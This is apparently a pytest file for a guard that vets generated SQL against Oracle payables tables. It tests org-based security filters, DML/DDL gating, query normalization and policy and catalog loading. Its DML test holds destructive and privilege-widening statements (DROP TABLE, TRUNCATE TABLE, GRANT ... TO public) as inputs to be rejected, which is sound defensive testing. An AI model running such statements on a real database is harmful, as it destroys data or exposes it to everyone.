    ("every occurrence needs it", "SELECT invoice_num FROM ap_invoices_all WHERE org_id IN (:org_ids) UNION ALL SELECT "
                                  "invoice_num FROM ap.ap_invoices_all", ORG, False),
    ("two filtered tables, one missing", "SELECT ph.segment1 FROM po_headers_all ph JOIN ap_invoices_all ai ON "
                                         "ai.vendor_id = ph.vendor_id WHERE ai.org_id IN (:org_ids)", ORG_PO, False),
    ("table not referenced", "SELECT vendor_name FROM ap_suppliers", ORG, True),
    ("ON of left join on the preserved side filters nothing", "SELECT ai.invoice_num FROM ap_invoices_all ai LEFT JOIN "
                                                              "ap_suppliers s ON s.vendor_id = ai.vendor_id AND "
                                                              "ai.org_id IN (:org_ids)", ORG, False),
    ("ON of left join on the null-supplying side", "SELECT s.vendor_name, ai.invoice_num FROM ap_suppliers s LEFT JOIN "
                                                   "ap_invoices_all ai ON ai.vendor_id = s.vendor_id AND ai.org_id IN "
                                                   "(:org_ids)", ORG, True),
    ("full outer join never counts", "SELECT s.vendor_name FROM ap_suppliers s FULL OUTER JOIN ap_invoices_all ai ON "
                                     "ai.vendor_id = s.vendor_id AND ai.org_id IN (:org_ids)", ORG, False),
    ("equality predicate policy", "SELECT invoice_num FROM ap_invoices_all WHERE org_id = :org_id",
     [{"table": "AP_INVOICES_ALL", "column": "ORG_ID", "predicate": "ORG_ID = :org_id"}], True),
]


@pytest.mark.parametrize("name,sql,filters,ok", SECURITY, ids=[r[0] for r in SECURITY])
def test_security_filters(name, sql, filters, ok, policy):
    v = check(sql, policy, filters=filters)
    assert v["ok"] is ok, v["reasons"]
    if not ok:
        assert v["codes"] == ["security_filter"]
        assert all("ORG_ID" in r for r in v["reasons"])


def test_security_filter_reason_names_the_wrong_predicate(policy):
    v = check("SELECT invoice_num FROM ap_invoices_all ai WHERE ai.org_id = 204", policy, filters=ORG)
    assert v["reasons"] == ["security filter on AP_INVOICES_ALL.ORG_ID must be ORG_ID IN (:org_ids) "
                            "(found AI.ORG_ID = 204) for AP_INVOICES_ALL (alias AI)"]


def test_bad_security_filter_predicate_is_a_config_error(policy):
    with pytest.raises(StageError, match="does not parse"):
        check("SELECT invoice_num FROM ap_invoices_all", policy,
              filters=[{"table": "AP_INVOICES_ALL", "column": "ORG_ID", "predicate": "ORG_ID IN ((("}])


# ------------------------------------------------------------------------------- normalization, allow_dml, policy
@pytest.mark.parametrize("text,sql,normalized", [
    ("SELECT 1 FROM dual", "SELECT 1 FROM dual", []),
    ("  SELECT 1 FROM dual ;  ", "SELECT 1 FROM dual", ["trailing semicolon"]),
    ("```sql\nSELECT 1 FROM dual\n```", "SELECT 1 FROM dual", ["markdown fence ```sql"]),
    ("```\nSELECT 1 FROM dual;\n```", "SELECT 1 FROM dual", ["markdown fence ```", "trailing semicolon"]),
    ("```oracle\r\nSELECT 1 FROM dual\r\n```", "SELECT 1 FROM dual", ["markdown fence ```oracle"]),
])
def test_normalization(text, sql, normalized, policy):
    v = g.check_sql(text, policy=policy)
    assert v["ok"] and v["sql"] == sql and v["normalized"] == normalized


@pytest.mark.parametrize("sql,ok", [
    ("DELETE FROM ap_invoices_all WHERE invoice_id = 1", True),
    ("UPDATE ap_invoices_all SET description = 'x' WHERE invoice_id = 1", True),
    ("INSERT INTO ap_suppliers (vendor_id, vendor_name) VALUES (1, 'x')", True),
    ("DROP TABLE ap_invoices_all", False),
    ("TRUNCATE TABLE ap_invoices_all", False),
    ("GRANT SELECT ON ap_invoices_all TO public", False),
    ("DELETE FROM ap_invoices_all WHERE invoice_id = dbms_random.value", False),
])
def test_allow_dml_admits_dml_never_ddl(sql, ok, policy):
    assert check(sql, policy, allow_dml=False)["ok"] is False
    v = check(sql, policy, allow_dml=True)
    assert v["ok"] is ok, v["reasons"]


def test_policy_allowlist_is_data(policy, tmp_path):
    sql = "SELECT xx_ap_pkg.get_status(1) FROM dual"
    assert not g.check_sql(sql, policy=policy)["ok"]
    text = g.POLICY_PATH.read_text().replace("allowed_package_functions:\n",
                                             "allowed_package_functions:\n  XX_AP_PKG.GET_STATUS: test helper\n")
    (tmp_path / "p.yaml").write_text(text)
    assert g.check_sql(sql, policy=g.load_policy(tmp_path / "p.yaml"))["ok"]


@pytest.mark.parametrize("content,match", [
    ("max_sql_chars: 10\nallow_hints: true\n", "unknown keys"),
    ("builtin_functions: NVL\n", "list of names"),
    ("max_sql_chars: -1\n", "positive integer"),
    ("allow_optimizer_hints: maybe\n", "true or false"),
    ("a: [\n", "not valid YAML"),
])
def test_bad_policy_is_rejected(content, match, tmp_path):
    (tmp_path / "p.yaml").write_text(content)
    with pytest.raises(StageError, match=match):
        g.load_policy(tmp_path / "p.yaml")


def test_catalog_loading(tmp_path):
    # names stay as the dictionary stores them: a lower-case name is a quoted, case-sensitive Oracle name
    (tmp_path / "c.json").write_text(json.dumps({"AP_INVOICES_ALL": {"INVOICE_ID": "NUMBER"}, "xx_t": {"c": "N"}}))
    assert dict(g.load_catalog(tmp_path / "c.json").items()) == {"AP_INVOICES_ALL": {"INVOICE_ID": "NUMBER"},
                                                                 "xx_t": {"c": "N"}}
    (tmp_path / "c.csv").write_text("TABLE_NAME,COLUMN_NAME,DATA_TYPE\nAP_SUPPLIERS,VENDOR_ID,NUMBER\n"
                                    "AP_SUPPLIERS,VENDOR_NAME,VARCHAR2\n")
    assert dict(g.load_catalog(tmp_path / "c.csv").items()) == {"AP_SUPPLIERS": {"VENDOR_ID": "NUMBER", "VENDOR_NAME": "VARCHAR2"}}
    for bad, match in [("[1, 2]", "must be a non-empty"), ("{", "not valid JSON"), ('{"T": ["A"]}', "must be")]:
        (tmp_path / "b.json").write_text(bad)
        with pytest.raises(StageError, match=match):
            g.load_catalog(tmp_path / "b.json")
    with pytest.raises(StageError, match="cannot read catalog"):
        g.load_catalog(tmp_path / "missing.json")
